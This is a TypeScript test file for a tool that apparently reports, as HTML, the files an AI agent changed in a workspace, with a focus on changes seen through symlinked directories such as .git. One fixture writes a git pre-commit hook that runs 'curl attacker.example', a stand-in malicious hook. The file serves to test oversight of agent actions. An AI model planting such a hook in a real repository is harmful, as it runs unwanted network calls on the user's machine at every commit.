import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import type { SurfaceChanges } from '../../src/models/change-set.js';
import type { Manifest } from '../../src/models/manifest.js';
import { changesHtml, DEFAULT_EVIDENCE_LIMITS } from '../../src/render/evidence-html.js';
import { diffManifests } from '../../src/verdicts/diff-manifests.js';
import { removeDir, tempDir } from '../sources/support/trees.js';
import { takeManifest } from '../support/manifests.js';

/**
 * What the agent changed, as a person reads it, when a change is seen through an in-root directory link
 * (`.git -> real-git`): the real file counted once, the linked path shown where the condition looks, naming
 * its link, and every path through links listed apart (like the agent's own state).
 */

function surfaceChanges(baseline: Manifest, final: Manifest): SurfaceChanges {
  return { surface: 'workspace', baseline, final, changeSet: diffManifests(baseline, final), error: null };
}

const hooksCondition = { conditionType: 'file_created', uri: '/.git/hooks/*', match: 'glob' };

describe('changesHtml through in-root directory links', () => {
  let root: string;
  beforeEach(() => {
    root = tempDir();
    fs.mkdirSync(path.join(root, 'real-git/hooks'), { recursive: true });
    fs.symlinkSync('real-git', path.join(root, '.git'));
  });
  afterEach(() => removeDir(root));

  it('shows a hook written through the link where the condition looks, and counts the file once', () => {
    const baseline = takeManifest(root);
    fs.writeFileSync(path.join(root, 'real-git/hooks/pre-commit'), '#!/bin/sh\ncurl attacker.example\n');
    const html = String(
      changesHtml([surfaceChanges(baseline, takeManifest(root))], hooksCondition, DEFAULT_EVIDENCE_LIMITS),
    );
    // One change in the headline: the real file; the linked path is the same file.
    assert.match(html, /\(workspace: 1 change, change set complete\)/);
    // Where the condition looks: the linked path, naming the link it went through.
    assert.match(
      html,
      /<li class="created"><span class="kind">created<\/span> <code>\/\.git\/hooks\/pre-commit<\/code> \(through <code>\/\.git -&#62; real-git<\/code>\) <span class="muted">/,
    );
    // The real path is the file the condition looked at through the link: listed there, not as a change
    // nobody asked for.
    assert.match(
      html,
      /<h3>Where the condition looks: 1<\/h3><ul class="change-list"><li class="created"><span class="kind">created<\/span> <code>\/real-git\/hooks\/pre-commit<\/code>/,
    );
    assert.equal(html.includes('Other changes'), false);
    // Apart and collapsed: every change seen through links.
    assert.match(
      html,
      /<details class="through-links"><summary>Seen through in-root links \(the same files, at the paths of the links\): 1 change<\/summary>\s*<ul class="change-list"><li class="created"><span class="kind">created<\/span> <code>\/\.git\/hooks\/pre-commit<\/code> \(through/,
    );
  });

  it('shows a link removed while its file stays as that file deleted at the link, one file where the condition looks', () => {
    fs.writeFileSync(path.join(root, 'real-git/SENTINEL.md'), 'keep');
    fs.symlinkSync('real-git/SENTINEL.md', path.join(root, 'SENTINEL.md'));
    const baseline = takeManifest(root);
    fs.rmSync(path.join(root, 'SENTINEL.md'));
    const html = String(
      changesHtml(
        [surfaceChanges(baseline, takeManifest(root))],
        { conditionType: 'file_deleted', uri: '/SENTINEL.md', match: 'exact' },
        DEFAULT_EVIDENCE_LIMITS,
      ),
    );
    assert.match(
      html,
      /<h3>Where the condition looks: 1<\/h3><ul class="change-list"><li class="deleted"><span class="kind">deleted<\/span> <code>\/SENTINEL\.md<\/code> <span class="muted">was symlink, → real-git\/SENTINEL\.md[^<]*<\/span><\/li><li class="deleted"><span class="kind">deleted<\/span> <code>\/SENTINEL\.md<\/code> \(through <code>\/SENTINEL\.md -&#62; real-git\/SENTINEL\.md<\/code>\) <span class="muted">was 4 bytes/,
    );
  });

  it('lists nothing through links when no link was seen through', () => {
    fs.rmSync(path.join(root, '.git'));
    const baseline = takeManifest(root);
    fs.writeFileSync(path.join(root, 'real-git/hooks/pre-commit'), 'x');
    const html = String(
      changesHtml([surfaceChanges(baseline, takeManifest(root))], hooksCondition, DEFAULT_EVIDENCE_LIMITS),
    );
    assert.equal(html.includes('through-links'), false);
    assert.equal(html.includes('Where the condition looks'), false);
  });

  it('names a link that leaves the root as a gap seen through links', () => {
    const outside = tempDir();
    try {
      fs.rmSync(path.join(root, '.git'));
      fs.symlinkSync(path.join(outside), path.join(root, '.git'));
      const baseline = takeManifest(root);
      const html = String(
        changesHtml([surfaceChanges(baseline, takeManifest(root))], hooksCondition, DEFAULT_EVIDENCE_LIMITS),
      );
      // One gap per manifest, each saying which.
      assert.match(html, /Seen through in-root links[^<]*: 0 changes, 2 gaps<\/summary>/);
      assert.match(
        html,
        /<li><code class="gap">link_not_followed<\/code> at <code>\/\.git<\/code>: [^<]*\(baseline manifest: \/\.git -&#62; [^<]*an absolute target\)<\/li><li><code class="gap">link_not_followed<\/code> at <code>\/\.git<\/code>: [^<]*\(final manifest: /,
      );
    } finally {
      removeDir(outside);
    }
  });
});
